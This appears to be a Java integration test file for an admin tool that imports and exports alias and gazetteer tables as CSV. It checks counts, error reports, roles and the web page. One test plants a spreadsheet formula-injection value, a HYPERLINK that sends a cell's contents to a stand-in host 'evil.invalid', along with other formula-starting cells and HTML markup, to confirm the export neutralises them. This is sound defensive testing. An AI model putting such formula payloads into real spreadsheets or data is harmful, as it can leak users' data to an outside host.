package io.storyline.it.admin;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.storyline.it.support.Api;
import io.storyline.it.support.Browser;
import io.storyline.it.support.Reports;
import io.storyline.it.support.SharedServer;
import io.storyline.it.support.TestServer;
import jakarta.json.JsonObject;
import jakarta.json.JsonString;
import jakarta.json.JsonValue;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.By;
import org.openqa.selenium.StaleElementReferenceException;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * The alias table and the gazetteer as admins keep them, from outside: CSV import with counts and line-numbered
 * problems, idempotent re-import, export that reads back unchanged with hostile cells made inert, an alias that
 * changes what re-analysis finds, and roles.
 */
@ExtendWith(SharedServer.class)
class KnowledgeAdminIT {

    private static final Duration SETTLE = Duration.ofMinutes(3);
    private static final String PASSWORD = "knowledge-it-" + UUID.randomUUID();
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();


    /** Random capitalised letters: a name no model and no earlier run has seen. */
    private static String word() {
        Random random = new Random();
        StringBuilder s = new StringBuilder().append((char) ('A' + random.nextInt(26)));
        for (int i = 0; i < 7; i++) {
            s.append((char) ('a' + random.nextInt(26)));
        }
        return s.toString();
    }

    /** A POST of a text/csv body, as a script or curl sends it. */
    private static HttpResponse<String> postCsv(String user, String password, String path, byte[] csv) {
        String token = Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
        HttpRequest request = HttpRequest.newBuilder(TestServer.baseUri().resolve(path))
                .timeout(Duration.ofSeconds(120))
                .header("Authorization", "Basic " + token)
                .header("Content-Type", "text/csv; charset=UTF-8")
                .POST(HttpRequest.BodyPublishers.ofByteArray(csv)).build();
        try {
            return HTTP.send(request, HttpResponse.BodyHandlers.ofString());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static HttpResponse<String> asAdmin(String path, String csv) {
        return postCsv("admin", TestServer.adminPassword(), path, csv.getBytes(StandardCharsets.UTF_8));
    }

    private static List<String> problems(JsonObject report) {
        return report.getJsonArray("problems").getValuesAs(JsonString.class).stream().map(JsonString::getString)
                .toList();
    }

    @Test
    void anImportAddsGoodRowsReportsBadOnesByLineAndIsIdempotent() {
        String a = word();
        String b = word();
        String c = word();
        String csv = "alias,canonical,type,kind,note\r\n"
                + a + ",Port of " + a + ",LOCATION\r\n"
                + "\"" + b + ", the elder\",\"" + b + " Senior\",PER,NAME,\"a \"\"quoted\"\" note\"\r\n"
                + word() + "," + word() + ",PERSN\r\n"
                + c + ",,ORGANIZATION\r\n"
                + c + "," + c + " Holdings,ORG\r\n"
                + a + ",Port of " + a + ",LOC\r\n";

        HttpResponse<String> first = asAdmin("api/knowledge/aliases/import", csv);
        assertEquals(200, first.statusCode(), first.body());
        JsonObject report = Api.object(first);
        assertEquals(3, report.getInt("added"), first.body());
        assertEquals(0, report.getInt("updated"));
        assertEquals(3, report.getInt("rejected"));
        List<String> problems = problems(report);
        assertTrue(problems.get(0).startsWith("line 4: unknown type 'PERSN'"), problems.toString());
        assertEquals("line 5: the canonical name is empty", problems.get(1));
        assertEquals("line 7: the same alias, type and kind as line 2", problems.get(2));
        assertTrue(report.getString("summary").startsWith("3 added, 0 updated, 0 unchanged, 3 rejected: line 4"),
                report.getString("summary"));

        JsonObject again = Api.object(asAdmin("api/knowledge/aliases/import", csv));
        assertEquals(0, again.getInt("added"), again.toString());
        assertEquals(0, again.getInt("updated"));
        assertEquals(3, again.getInt("unchanged"), "the same file twice changes nothing");

        JsonObject changed = Api.object(asAdmin("api/knowledge/aliases/import",
                a + ",Harbour of " + a + ",LOCATION\n"));
        assertEquals(1, changed.getInt("updated"), changed.toString());
        JsonObject listed = Api.array(Api.asAdmin().get("api/knowledge/aliases?q=" + a)).stream()
                .map(JsonValue::asJsonObject).filter(x -> x.getString("alias").equals(a)).findFirst().orElseThrow();
        assertEquals("Harbour of " + a, listed.getString("canonical"));
        assertEquals("LOCATION", listed.getString("type"));
        JsonObject elder = Api.array(Api.asAdmin().get("api/knowledge/aliases?q=" + b)).getJsonObject(0);
        assertEquals(b + ", the elder", elder.getString("alias"));
        assertEquals("a \"quoted\" note", elder.getString("note"));

        HttpResponse<String> gazetteer = asAdmin("api/knowledge/gazetteer/import",
                "name,type,case_sensitive\n" + a + " Wire,ORGANIZATION,true\n" + b + " Valley,PLACE\nBad,LOCATION,sometimes\n");
        JsonObject names = Api.object(gazetteer);
        assertEquals(2, names.getInt("added"), gazetteer.body());
        assertEquals(List.of("line 4: case_sensitive is true or false, not 'sometimes'"), problems(names));
    }

    @Test
    void aFileThatIsNotCsvOrTooLargeIsRefusedWhole() {
        String name = word();
        HttpResponse<String> open = asAdmin("api/knowledge/gazetteer/import",
                "name,type\n" + name + ",OTHER\n\"never closed,OTHER\n");
        assertEquals(400, open.statusCode(), open.body());
        assertTrue(Api.object(open).getString("detail").contains("line 3"), open.body());
        assertTrue(Api.array(Api.asAdmin().get("api/knowledge/gazetteer?q=" + name)).isEmpty(), "nothing imported");

        byte[] huge = new byte[5 * 1024 * 1024 + 10];
        Arrays.fill(huge, (byte) 'a');
        HttpResponse<String> tooLarge = postCsv("admin", TestServer.adminPassword(), "api/knowledge/aliases/import",
                huge);
        assertEquals(413, tooLarge.statusCode(), tooLarge.body());
        assertTrue(Api.object(tooLarge).getString("detail").contains("5 MB"), tooLarge.body());

        HttpResponse<String> notText = postCsv("admin", TestServer.adminPassword(), "api/knowledge/aliases/import",
                new byte[] {(byte) 0xff, (byte) 0xfe, 0, 'a', ',', 'b'});
        assertEquals(400, notText.statusCode(), notText.body());
        assertTrue(Api.object(notText).getString("detail").contains("UTF-8"), notText.body());
    }

    @Test
    void theExportReadsBackUnchangedAndHostileCellsAreInert() {
        String name = word();
        String hostile = "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"" + name + "\")";
        HttpResponse<String> imported = asAdmin("api/knowledge/aliases/import",
                "\"" + hostile.replace("\"", "\"\"") + "\"," + name + ",OTHER,NAME,@SUM(1+1)\n"
                        + "+" + name + "," + name + " Plus,OTHER\n");
        assertEquals(2, Api.object(imported).getInt("added"), imported.body());

        Api editor = Api.newUser("EDITOR", PASSWORD);
        HttpResponse<String> export = editor.get("api/knowledge/aliases.csv");
        assertEquals(200, export.statusCode(), export.body());
        assertTrue(export.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"));
        assertTrue(export.headers().firstValue("Content-Disposition").orElse("").contains("attachment"));
        String csv = export.body();
        assertTrue(csv.startsWith("alias,canonical,type,kind,note\r\n"), csv.substring(0, 60));
        assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://evil.invalid/?\"\"&A1,\"\"" + name + "\"\")\"," + name
                + ",OTHER,NAME,'@SUM(1+1)\r\n"), "the formula is quoted and starts with ': " + csv);
        assertTrue(csv.contains("\r\n'+" + name + "," + name + " Plus,OTHER,NAME,\r\n"), csv);
        for (String line : csv.split("\r\n")) {
            assertFalse(line.matches("^\"?[=+\\-@\t].*"), "no exported cell starts a formula: " + line);
        }

        JsonObject back = Api.object(asAdmin("api/knowledge/aliases/import", csv));
        assertEquals(0, back.getInt("added"), back.toString());
        assertEquals(0, back.getInt("updated"), back.toString());
        assertEquals(0, back.getInt("rejected"), back.toString());
        assertTrue(back.getInt("unchanged") >= 2, back.toString());
        JsonObject stored = Api.array(Api.asAdmin().get("api/knowledge/aliases?q=" + name)).stream()
                .map(JsonValue::asJsonObject).filter(x -> x.getString("canonical").equals(name)).findFirst()
                .orElseThrow();
        assertEquals(hostile, stored.getString("alias"), "the value itself is kept as written");

        HttpResponse<String> gazetteer = editor.get("api/knowledge/gazetteer.csv");
        assertEquals(200, gazetteer.statusCode());
        assertTrue(gazetteer.body().startsWith("name,type,case_sensitive,note\r\n"));
        JsonObject names = Api.object(asAdmin("api/knowledge/gazetteer/import", gazetteer.body()));
        assertEquals(0, names.getInt("added") + names.getInt("updated") + names.getInt("rejected"), names.toString());
    }

    @Test
    void anAliasAddedByImportTakesEffectOnReanalysis() {
        String place = word();
        String canonical = "Port " + word();
        long id = Reports.analysed("Fishermen protested in " + place + " on Monday. The harbour of " + place
                + " stayed closed, the council said. (" + UUID.randomUUID() + ")", "2024-05-06");
        assertTrue(Api.array(Api.asAdmin().get("api/documents/" + id + "/entities")).stream()
                .map(JsonValue::asJsonObject).noneMatch(m -> m.getString("name").equals(canonical)));

        JsonObject report = Api.object(asAdmin("api/knowledge/aliases/import",
                "alias,canonical,type\n" + place + "," + canonical + ",LOCATION\n"));
        assertEquals(1, report.getInt("added"), report.toString());
        HttpResponse<String> again = Api.asAdmin().post("api/documents/" + id + "/reanalyze");
        assertEquals(202, again.statusCode(), again.body());
        awaitAnalysedAfter(id, "REANALYSIS_REQUESTED");

        List<JsonObject> mentions = Api.array(Api.asAdmin().get("api/documents/" + id + "/entities")).stream()
                .map(JsonValue::asJsonObject).filter(m -> m.getString("text").equals(place)).toList();
        assertFalse(mentions.isEmpty(), "the alias is found in the text");
        mentions.forEach(m -> {
            assertEquals(canonical, m.getString("name"), "the alias stands for its canonical name: " + m);
            assertEquals("LOCATION", m.getString("type"));
        });
    }

    @Test
    void onlyAdminsChangeTheTablesAndEditorsReadThem() {
        String editorName = "editor-" + UUID.randomUUID().toString().substring(0, 8);
        HttpResponse<String> created = Api.asAdmin().postJson("api/users", "{\"username\":\"" + editorName
                + "\",\"displayName\":\"An editor\",\"roles\":[\"EDITOR\"],\"password\":\"" + PASSWORD + "\"}");
        assertEquals(201, created.statusCode(), created.body());
        String name = word();
        HttpResponse<String> byEditor = postCsv(editorName, PASSWORD, "api/knowledge/aliases/import",
                (name + ",Somewhere,LOCATION\n").getBytes(StandardCharsets.UTF_8));
        assertEquals(403, byEditor.statusCode(), byEditor.body());
        assertEquals(403, postCsv(editorName, PASSWORD, "api/knowledge/gazetteer/import",
                (name + ",LOCATION\n").getBytes(StandardCharsets.UTF_8)).statusCode());
        assertTrue(Api.array(Api.asAdmin().get("api/knowledge/aliases?q=" + name)).isEmpty());

        Api editor = Api.as(editorName, PASSWORD);
        assertEquals(200, editor.get("api/knowledge/aliases.csv").statusCode());
        assertEquals(200, editor.get("api/knowledge/gazetteer.csv").statusCode());
        Api reader = Api.newUser("READER", PASSWORD);
        assertEquals(403, reader.get("api/knowledge/aliases.csv").statusCode(), "readers do not read the aliases");
        assertEquals(401, Api.anonymous().get("api/knowledge/gazetteer.csv").statusCode());

        JsonObject added = Api.object(Api.asAdmin().postJson("api/knowledge/aliases",
                "{\"alias\":\"" + name + "\",\"canonical\":\"" + name + " Town\",\"type\":\"LOCATION\"}"));
        long id = added.getJsonNumber("id").longValue();
        assertEquals(403, editor.put("api/knowledge/aliases/" + id,
                "{\"alias\":\"" + name + "\",\"canonical\":\"Elsewhere\",\"type\":\"LOCATION\"}").statusCode());
        assertEquals(403, editor.delete("api/knowledge/aliases/" + id).statusCode());
        HttpResponse<String> put = Api.asAdmin().put("api/knowledge/aliases/" + id,
                "{\"alias\":\"" + name + "\",\"canonical\":\"Elsewhere\",\"type\":\"LOCATION\"}");
        assertEquals(200, put.statusCode(), put.body());
        assertEquals(204, Api.asAdmin().delete("api/knowledge/aliases/" + id).statusCode());
        assertEquals(404, Api.asAdmin().delete("api/knowledge/aliases/" + id).statusCode());
    }

    @Test
    void thePageSearchesImportsWithAReportAndShowsValuesAsText(TestInfo test) throws IOException {
        String known = word();
        String hostile = word();
        asAdmin("api/knowledge/aliases/import", known + ",Port of " + known + ",LOCATION\n");
        Path file = Files.createTempFile("aliases-", ".csv");
        Files.writeString(file, "alias,canonical,type\n" + hostile + ",<b>Bold</b> City,LOCATION\n" + word()
                + ",Nobody,PERSN\n");
        try (Browser browser = Browser.session()) {
            WebDriver driver = browser.driver();
            WebDriverWait wait = new WebDriverWait(driver, Duration.ofSeconds(30));
            wait.ignoring(StaleElementReferenceException.class);
            try {
                browser.open("");
                browser.signIn("admin", TestServer.adminPassword());
                browser.waitForText(By.tagName("h1"), "Documents");
                browser.open("admin/knowledge.xhtml");
                browser.waitForText(By.tagName("h1"), "Aliases and gazetteer");

                browser.waitFor(By.id("tabs:aliases:aq")).sendKeys(known);
                wait.until(d -> rows(d).size() == 1 && rows(d).get(0).getText().contains("Port of " + known));

                driver.findElement(By.cssSelector("#tabs\\:aliases input[type=file]")).sendKeys(file.toString());
                browser.waitForText(By.id("tabs:aliases:aliasReport"), "1 added");
                String report = driver.findElement(By.id("tabs:aliases:aliasReport")).getText();
                assertTrue(report.contains("1 rejected") && report.contains("line 3: unknown type 'PERSN'"), report);

                WebElement search = driver.findElement(By.id("tabs:aliases:aq"));
                search.clear();
                search.sendKeys(hostile);
                wait.until(d -> rows(d).size() == 1 && rows(d).get(0).getText().contains("<b>Bold</b> City"));
                assertTrue(driver.findElements(By.cssSelector("#tabs\\:aliases\\:aliasTable td b")).isEmpty(),
                        "a value is shown as text, never as markup");
                assertTrue(driver.findElement(By.id("tabs:aliases:aliasExport")).getAttribute("href")
                        .endsWith("/api/knowledge/aliases.csv"));

                rows(driver).get(0).findElement(By.xpath(".//button[.//span[.='Edit']]")).click();
                wait.until(d -> hostile.equals(d.findElement(By.id("tabs:aliases:alias")).getAttribute("value")));
                WebElement canonical = driver.findElement(By.id("tabs:aliases:canonical"));
                canonical.clear();
                canonical.sendKeys("Bold City");
                driver.findElement(By.id("tabs:aliases:saveAlias")).click();
                wait.until(d -> rows(d).size() == 1 && rows(d).get(0).getText().contains("Bold City")
                        && !rows(d).get(0).getText().contains("<b>"));

                rows(driver).get(0).findElement(By.xpath(".//button[.//span[.='Delete']]")).click();
                wait.until(d -> d.findElement(By.cssSelector(".ui-confirmdialog-yes")).isDisplayed());
                driver.findElement(By.cssSelector(".ui-confirmdialog-yes")).click();
                wait.until(d -> rows(d).isEmpty());
                assertTrue(Api.array(Api.asAdmin().get("api/knowledge/aliases?q=" + hostile)).isEmpty(),
                        "deleted after the confirmation");
                browser.screenshot("knowledge-page");
            } catch (RuntimeException | AssertionError e) {
                browser.screenshot(test.getDisplayName().replaceAll("\\W+", "-"));
                throw e;
            } finally {
                Files.deleteIfExists(file);
            }
        }
    }

    private static List<WebElement> rows(WebDriver driver) {
        return driver.findElements(By.cssSelector("#tabs\\:aliases\\:aliasTable tbody tr:not(.ui-datatable-empty-message)"));
    }

    private static void awaitAnalysedAfter(long id, String step) {
        long end = System.nanoTime() + SETTLE.toNanos();
        while (System.nanoTime() < end) {
            List<String> steps = Api.array(Api.asAdmin().get("api/documents/" + id + "/history")).stream()
                    .map(h -> h.asJsonObject().getString("step")).toList();
            if (steps.lastIndexOf("ANALYZED") > steps.lastIndexOf(step)) {
                return;
            }
            Api.sleep(250);
        }
        throw new AssertionError("document " + id + " was not analysed again");
    }
}
